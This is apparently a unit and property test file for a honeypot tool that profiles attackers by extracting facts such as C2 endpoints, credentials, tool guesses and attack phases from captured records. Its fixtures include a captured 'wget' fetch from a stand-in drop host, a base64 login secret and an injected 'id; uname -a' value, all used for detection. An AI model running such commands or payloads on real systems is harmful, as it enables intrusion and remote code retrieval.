import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { addRecord, describeProfile, newProfile } from '../../protocols/attacker_profile.ts'
import type { RecordData } from '../../protocols/record_data.ts'
import { factsOf } from '../../protocols/record_facts.ts'

const record = (change: Partial<RecordData>): RecordData => ({
  attacker_ip: '198.51.100.7',
  decky: 'web-01',
  service: 'ssh',
  event_type: 'connect',
  fields: {},
  ...change,
})
const facts = (change: Partial<RecordData>) =>
  factsOf(record(change)).map(({ kind, value }) => `${kind} ${value}`)

const HUNTER2 = 'f52fbd32b2b3b86ff88ef6c490628285f482af15ddcb29541f94bcf526a3f6c7'
const SHA = 'a'.repeat(64)

describe('the facts of a record', () => {
  it.each([
    [
      'a login',
      {
        service: 'auth-helper',
        event_type: 'auth_attempt',
        fields: { username: 'root', secret_b64: 'aHVudGVyMg==' },
      },
      [
        ...['service ssh', 'decky web-01', 'rhythm event', 'step recon'],
        ...['phase ["credential_access","web-01"]', `login ${HUNTER2}9 plaintextroot`],
      ],
    ],
    [
      'a command that fetches a file',
      {
        service: 'bash',
        event_type: 'command',
        msg: 'CMD uid=0 user=root src=198.51.100.7 pwd=/root cmd=wget http://drop.example:8080/x',
      },
      [
        ...['service ssh', 'decky web-01', 'rhythm event', 'step action', 'c2 drop.example:8080'],
        'command wget http://drop.example:8080/x',
        'phase ["command_and_control","web-01"]',
      ],
    ],
    [
      'a large file',
      { event_type: 'file_captured', fields: { sha256: SHA, size: '2000000', stored_as: 'x' } },
      [
        ...['service ssh', 'decky web-01', 'rhythm event', 'step action', 'step large_payload'],
        ...[`artifact file ${SHA}`, `payload ${SHA}`, 'phase ["delivery","web-01"]'],
      ],
    ],
    [
      'a TLS client that the sniffer saw',
      { service: 'sniffer', event_type: 'tls_client_hello', fields: { ja3: 'e7d7' } },
      ['decky web-01', 'fingerprint ja3 e7d7', 'ja3 e7d7'],
    ],
    [
      'a probe of ours',
      {
        decky: 'decnet-prober',
        service: 'prober',
        event_type: 'tcpfp_fingerprint',
        fields: { ttl: '54', tcpfp_hash: 'h', target_ip: '198.51.100.7' },
      },
      ['os linux', 'fingerprint tcpfp h'],
    ],
    [
      'a request that says what sent it',
      { service: 'http', event_type: 'request', fields: { headers: '{"User-Agent":"sqlmap/1"}' } },
      [
        ...['service http', 'decky web-01', 'rhythm event', 'tool sqlmap'],
        ...['fingerprint http_useragent sqlmap/1', 'fingerprint http_quirks …'],
      ],
    ],
  ] as const)('tell of %s what it is evidence for', (_what, change, expected) => {
    const found = facts(change)
    expect(found.map((fact) => fact.replace(/(http_quirks) .*/, '$1 …'))).toEqual(expected)
  })

  it('hold whatever a profile of the same record says, and nothing throws', () => {
    const word = fc.oneof(
      fc.constantFrom('ssh', 'sniffer', 'prober', 'bash', 'http', 'request', 'command', 'query'),
      fc.constantFrom('auth_attempt', 'file_captured', 'download_attempt', 'tcp_syn_fingerprint'),
      fc.string({ maxLength: 12, unit: 'binary' }),
    )
    const value = fc.oneof(
      fc.constantFrom(SHA, 'aHVudGVyMg==', '1048576', 'http://a.example/x', 'id; uname -a'),
      fc.string({ unit: 'binary' }),
      fc.jsonValue(),
    )
    const name = fc.constantFrom(
      ...['secret_b64', 'secret_kind', 'username', 'principal', 'sha256', 'size', 'url', 'command'],
      ...['headers', 'ja3', 'hassh', 'os_guess', 'ttl', 'service', 'outcome', 'stored_as'],
    )
    const records = fc.record({
      attacker_ip: fc.constant('198.51.100.7'),
      decky: word,
      service: word,
      event_type: word,
      fields: fc.dictionary(name, value, { maxKeys: 8 }),
      msg: fc.option(fc.string({ unit: 'binary' })),
    })
    fc.assert(
      fc.property(records, (one) => {
        const found = new Set(factsOf(one).map(({ kind, value: text }) => `${kind} ${text}`))
        const profile = newProfile()
        addRecord(profile, 0, one, 10)
        const told = describeProfile(one.attacker_ip, profile, 0)
        const { evidence, behavior } = told
        const expected = [
          ...told.services.map((service) => `service ${service}`),
          ...told.deckies.map((decky) => `decky ${decky}`),
          ...behavior.tool_guesses.map((tool) => `tool ${tool}`),
          ...evidence.payload_hashes.map((hash) => `payload ${hash}`),
          ...evidence.c2_endpoints.map((endpoint) => `c2 ${endpoint}`),
          ...Object.values(evidence.commands_by_phase).flatMap((commands) =>
            commands.map((command) => `command ${command}`),
          ),
          ...(behavior.os_guess === null ? [] : [`os ${behavior.os_guess}`]),
        ]
        expect(expected.filter((fact) => !found.has(fact))).toEqual([])
        expect(found.has('rhythm event')).toBe(behavior.timing_stats.event_count > 0)
      }),
      { numRuns: 1000 },
    )
  })
})
